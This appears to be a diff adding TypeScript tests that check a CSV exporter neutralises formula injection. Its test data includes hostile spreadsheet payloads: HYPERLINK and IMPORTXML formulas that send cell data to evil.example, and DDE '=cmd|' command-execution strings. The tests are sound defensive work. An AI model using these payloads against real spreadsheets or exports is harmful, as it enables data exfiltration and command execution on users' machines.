@@ -47,14 +47,73 @@ test.each([0, -1, 0.5, -0.25, true, false])("%j stays what it is", (value) => {
   expect(csvCell(value)).toBe(String(value));
 });
 
-const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];
-const LEAD_INS = ["", " ", '"', "'", "\n", "\uFEFF", "\u00A0", "\u200B"];
+const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"];
+const LEAD_INS = ["", " ", '"', "'", ",", "\n", "\uFEFF", "\u00A0", "\u200B"];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+  "\t=1+1",
+  "\r\n=1+1",
+  '"\r\n=1+1',
+  '","=1+1',
+  ";=1+1",
+  '";"=1+1',
+  "＝1＋1",
+  "-",
+];
+const TEXTS = [...TRIGGERS.flatMap((trigger) => LEAD_INS.map((leadIn) => `${leadIn}${trigger}1+1`)), ...FORMULAS];
 
-test.each(TRIGGERS.flatMap((trigger) => LEAD_INS.map((leadIn) => [`${leadIn}${trigger}1+1`])))(
-  "a spreadsheet takes %j for text",
-  (value) => {
-    const cell = csvCell(value);
-    const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
-    expect(read).toBe(`'${value}`);
-  },
-);
+/** What RFC 4180 makes of a file: one character after the other. */
+function parse(csv: string): string[][] {
+  const rows: string[][] = [[""]];
+  let quoted = false;
+  for (let at = 0; at < csv.length; at++) {
+    const cells = rows.at(-1) ?? [];
+    const add = (text: string) => void (cells[cells.length - 1] += text);
+    if (quoted && csv.startsWith('""', at)) add(csv.charAt(at++));
+    else if (csv[at] === '"') quoted = !quoted;
+    else if (quoted) add(csv.charAt(at));
+    else if (csv[at] === ",") cells.push("");
+    else if (csv.startsWith("\r\n", at)) {
+      rows.push([""]);
+      at++;
+    } else add(csv.charAt(at));
+  }
+  return rows.slice(0, -1);
+}
+
+test.each(TEXTS.map((text) => [text]))("T9: a spreadsheet takes %j for text", (value) => {
+  const [[read = ""] = []] = parse(`${csvCell(value)}\r\n`);
+  expect([value, `'${value}`]).toContain(read);
+});
+
+test(`T9: ${TEXTS.length} texts in two columns come back as they were, in their own cells, and numbers stay numbers`, () => {
+  const rows = TEXTS.map((text, index) => ({
+    touchpoint: text,
+    week: "2026-W47",
+    instrument: "outcome5" as const,
+    audience: null,
+    provider: text,
+    shown: true as const,
+    answered: 12,
+    top2: { share: -0.5, low: index, high: 1e-7 },
+    band: null,
+    responseRate: null,
+  }));
+  const [header, ...lines] = parse(toCsv({ rows }));
+  expect(lines).toHaveLength(TEXTS.length);
+  lines.forEach((cells, index) => {
+    const { touchpoint, provider, top2_share, top2_low, top2_high } = Object.fromEntries(
+      cells.map((cell, column) => [header?.[column] ?? "", cell]),
+    );
+    expect([TEXTS[index], `'${TEXTS[index]}`]).toContain(touchpoint);
+    expect(provider).toBe(touchpoint);
+    expect([top2_share, top2_low, top2_high]).toEqual(["-0.5", String(index), "1e-7"]);
+    // Neither at its begin nor behind what a spreadsheet looks past.
+    expect(touchpoint).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@\t\r\0＝＋－＠]/u);
+  });
+});
